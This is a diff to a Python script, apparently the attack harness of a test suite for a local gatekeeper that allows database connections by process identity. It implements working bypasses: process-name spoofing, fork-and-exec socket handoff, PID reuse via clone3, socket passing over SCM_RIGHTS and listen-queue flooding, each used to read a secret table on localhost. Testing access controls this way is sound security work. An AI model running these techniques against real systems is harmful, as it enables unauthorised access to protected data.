@@ -1,7 +1,10 @@
 """The attacks' own moves. Usage: attack.py NAME PORT ARGS. Prints what it got."""
+import array
 import ctypes
 import errno
 import os
+import resource
+import select
 import signal
 import socket
 import struct
@@ -9,29 +12,46 @@ import sys
 import time
 
 name, port, args = sys.argv[1], int(sys.argv[2]), sys.argv[3:]
-signal.alarm(18)
+signal.alarm(60)
+libc = ctypes.CDLL(None, use_errno=True)
 
 
 def say(text):
     print(text, flush=True)
 
 
-def opened(source=None, timeout=8.0, blocking=True):
+def prepared(source=None):
+    """A socket that leaves nothing in its port when it is closed."""
     s = socket.socket()
     s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    s.settimeout(timeout)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+    s.settimeout(20)
     if source:
         s.bind(("127.0.0.1", source))
-    if not blocking:
-        s.setblocking(False)
-        try:
-            s.connect(("127.0.0.1", port))
-        except BlockingIOError:
-            pass
-    else:
-        s.connect(("127.0.0.1", port))
-    s.set_inheritable(True)
     return s
+
+
+def opened():
+    s = prepared()
+    s.connect(("127.0.0.1", port))
+    return s
+
+
+def begun(source):
+    """One whose handshake may still go on."""
+    s = prepared(source)
+    s.setblocking(False)
+    try:
+        s.connect(("127.0.0.1", port))
+    except BlockingIOError:
+        pass
+    return s
+
+
+def hangs(s, patience):
+    poll = select.poll()
+    poll.register(s, select.POLLOUT)
+    return not poll.poll(patience * 1000)
 
 
 def startup(s):
@@ -44,10 +64,11 @@ def query(s, sql="SELECT secret FROM gold"):
     s.sendall(b"Q" + struct.pack("!i", len(body) + 4) + body)
 
 
-def read(s, until=b"Z\0\0\0\5"):
+def read(s):
+    """Everything up to ReadyForQuery or the end."""
     data = b""
     try:
-        while until not in data:
+        while b"Z\0\0\0\5" not in data:
             piece = s.recv(65536)
             if not piece:
                 break
@@ -57,15 +78,47 @@ def read(s, until=b"Z\0\0\0\5"):
     return data.decode("latin-1").replace("\0", " ")
 
 
-def steal(s, label=""):
+def rows(s):
+    """What the answer to a query says: the first column of each row, and errors."""
+    data = b""
+    try:
+        while b"Z\0\0\0\5" not in data:
+            piece = s.recv(65536)
+            if not piece:
+                break
+            data += piece
+    except OSError as error:
+        return repr(error)
+    found = []
+    while len(data) >= 5:
+        kind, size = data[:1], struct.unpack("!i", data[1:5])[0]
+        body, data = data[5 : size + 1], data[size + 1 :]
+        if kind == b"D":
+            found.append(body[6:].decode())
+        elif kind == b"E":
+            found.append(body.decode().replace("\0", " "))
+    return " ".join(found)
+
+
+def steal(s):
     """Speaks the protocol and shows whatever comes."""
     try:
         startup(s)
-        say(label + read(s))
+        say(read(s))
         query(s)
-        say(label + read(s))
+        say(read(s))
     except OSError as error:
-        say(label + repr(error))
+        say(repr(error))
+
+
+def become(uid):
+    os.setgroups([])
+    os.setgid(uid)
+    os.setuid(uid)
+
+
+def runs(pid):
+    return os.readlink(f"/proc/{pid}/exe")
 
 
 # Takes connections and never answers, so that a psql that connects to it just stands there.
@@ -74,57 +127,66 @@ sink.bind(("127.0.0.1", 0))
 sink.listen(8)
 
 
-def replace_by(program):
-    """Becomes a program that does nothing but stand there for a while."""
-    if os.path.basename(program) == "psql":
-        host = f"host=127.0.0.1 port={sink.getsockname()[1]} connect_timeout=15"
-        os.execv(program, [program, "-X", "-d", host])
-    os.execv(program, [program, "15"])
+def replace_by(program, at=None):
+    """Becomes psql, which connects and then stands there."""
+    host = f"host=127.0.0.1 port={at or sink.getsockname()[1]} user=x dbname=postgres connect_timeout=50"
+    os.execv(program, [program, "-X", "-d", host])
+
+
+def is_connected(pid):
+    """Whether a process has an established TCP connection."""
+    inodes = set()
+    for fd in os.listdir(f"/proc/{pid}/fd"):
+        try:
+            inodes.add(os.readlink(f"/proc/{pid}/fd/{fd}"))
+        except FileNotFoundError:
+            pass
+    with open(f"/proc/{pid}/net/tcp") as table:
+        lines = [line.split() for line in table][1:]
+    return any(line[3] == "01" and f"socket:[{line[9]}]" in inodes for line in lines)
 
 
 if name == "plain":
+    if args:
+        libc.prctl(15, os.path.basename(args[0]).encode(), 0, 0, 0)
     steal(opened())
 elif name == "names":
-    libc = ctypes.CDLL(None)
-    libc.prctl(15, os.path.basename(args[0]).encode(), 0, 0, 0)
     pid = os.fork()
     if pid == 0:
-        os.execv("/usr/bin/python3", [args[0], sys.argv[0], "plain", str(port)])
+        os.execv("/usr/bin/python3", [args[0], sys.argv[0], "plain", str(port), args[0]])
     os.waitpid(pid, 0)
-elif name in ("exec", "exec-race"):
+elif name in ("exec", "exec-race", "inherit"):
     s = opened()
     me = os.getpid()
     if os.fork() == 0:
         # The child keeps the socket and speaks, while its parent looks like the permitted program.
         if name == "exec":
-            while not os.readlink(f"/proc/{me}/exe") == args[0]:
+            while runs(me) != args[0]:
                 time.sleep(0.001)
+        if name != "exec-race":
             say(f"standing {me}")
-            time.sleep(0.3)
         steal(s)
         os.kill(me, signal.SIGKILL)
         os._exit(0)
+    if name == "inherit":
+        signal.pause()
     if name == "exec-race":
         time.sleep(int(args[1]) * 0.0002)
     replace_by(args[0])
 elif name == "pid-reuse":
-    program, uid = args[0], int(args[1])
+    program, uid, place = args[0], int(args[1]), args[2]
     read_end, write_end = os.pipe()
     victim = os.fork()
     if victim == 0:
-        os.setgroups([])
-        os.setgid(uid)
-        os.setuid(uid)
+        become(uid)
         s = opened()
         if os.fork() == 0:
             os.write(write_end, b"x")
-            time.sleep(2.0)
             steal(s)
-            os._exit(0)
         os._exit(0)
+    os.close(write_end)
     os.waitpid(victim, 0)
     os.read(read_end, 1)
-    libc = ctypes.CDLL(None, use_errno=True)
     want = (ctypes.c_int * 1)(victim)
     clone_args = (ctypes.c_uint64 * 11)(*([0] * 11))
     clone_args[4] = signal.SIGCHLD
@@ -132,80 +194,85 @@ elif name == "pid-reuse":
     clone_args[9] = 1
     got = libc.syscall(435, ctypes.byref(clone_args), ctypes.sizeof(clone_args))
     if got == 0:
-        os.setgroups([])
-        os.setgid(uid)
-        os.setuid(uid)
-        replace_by(program)
+        become(uid)
+        replace_by(program, port if place == "here" else None)
     if got != victim:
-        say(f"clone3 gave {got}, errno {ctypes.get_errno()}")
-        sys.exit(1)
+        sys.exit(f"clone3 gave {got}, errno {ctypes.get_errno()}")
+    while runs(got) != program or not is_connected(got):
+        time.sleep(0.001)
     say(f"standing {got}")
-    time.sleep(4.0)
+    # Until the one who kept the socket has ended.
+    os.read(read_end, 1)
     os.kill(got, signal.SIGKILL)
 elif name in ("exec-later", "exit-later"):
     s = opened()
     startup(s)
     read(s)
     query(s)
-    say("first " + read(s))
+    say("first " + rows(s))
     me = os.getpid()
     if os.fork() == 0:
         if name == "exec-later":
-            while not os.readlink(f"/proc/{me}/exe").endswith("sleep"):
+            while runs(me) == os.readlink("/proc/self/exe"):
                 time.sleep(0.001)
         else:
             while os.getppid() == me:
                 time.sleep(0.001)
-        time.sleep(0.1)
         try:
             query(s)
-            say("second " + read(s))
+            say("second " + rows(s))
         except OSError as error:
             say("second " + repr(error))
         if name == "exec-later":
             os.kill(me, signal.SIGKILL)
         os._exit(0)
     if name == "exec-later":
-        os.execv(args[0], [args[0], "15"])
+        os.execv(args[0], [args[0], "50"])
     # The child speaks after this process has gone; whoever waits for the output gets it all.
     os._exit(0)
-elif name == "bound":
-    steal(opened(source=int(args[0])))
-elif name == "fill":
-    # More connections than the queue takes: the last ones hang in the handshake. Then all are gone at once.
+elif name == "passed":
+    # One process connects, another speaks.
+    connects, speaks = int(args[0]), int(args[1])
+    ours, theirs = socket.socketpair()
+    first = os.fork()
+    if first == 0:
+        become(connects)
+        s = opened()
+        say(f"connected {os.getpid()}")
+        ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [s.fileno()]))])
+        ours.recv(1)
+        os._exit(0)
+    become(speaks)
+    _, control, _, _ = theirs.recvmsg(1, 64)
+    steal(socket.socket(fileno=array.array("i", control[0][2])[0]))
+    theirs.send(b"x")
+    os.waitpid(first, 0)
+elif name in ("fill", "wait"):
+    # As many connections as the queue takes, and ten that hang in the handshake.
     first, count = int(args[0]), int(args[1])
-    import select
-
-    sockets = []
+    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    sockets, hanging = [], 0
     for source in range(first, first + count):
-        try:
-            sockets.append(opened(source=source, blocking=False))
-        except OSError as error:
-            if error.errno != errno.EMFILE:
-                raise
-            break
-        _, writable, _ = select.select([], [sockets[-1]], [], 0.02 if len(sockets) > 100 else 1)
-        if not writable:
-            say(f"full after {len(sockets)}")
+        sockets.append(begun(source))
+        hanging += hangs(sockets[-1], 0.5)
+        if hanging == 10:
             break
     else:
-        say(f"not full after {len(sockets)}")
-elif name == "wait":
-    first, count = int(args[0]), int(args[1])
-    sockets = [opened(source=source) for source in range(first, first + count)]
-    say(f"standing {os.getpid()}")
-    time.sleep(15)
+        sys.exit("not full")
+    say(f"standing {source}")
+    if name == "wait":
+        signal.pause()
 elif name == "take":
     first, count = int(args[0]), int(args[1])
+    sockets = [begun(source) for source in range(first, first + count)]
+    say(f"standing {os.getpid()}")
     tried = 0
-    for source in list(range(first, first + count))[:: max(1, count // 40)]:
-        try:
-            s = opened(source=source, timeout=3.0)
-        except OSError:
-            continue
-        tried += 1
-        steal(s)
-        s.close()
+    for s in sockets:
+        if not hangs(s, 20) and s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
+            tried += 1
+            s.settimeout(20)
+            steal(s)
     say(f"tried {tried}")
 elif name == "direct":
     try:
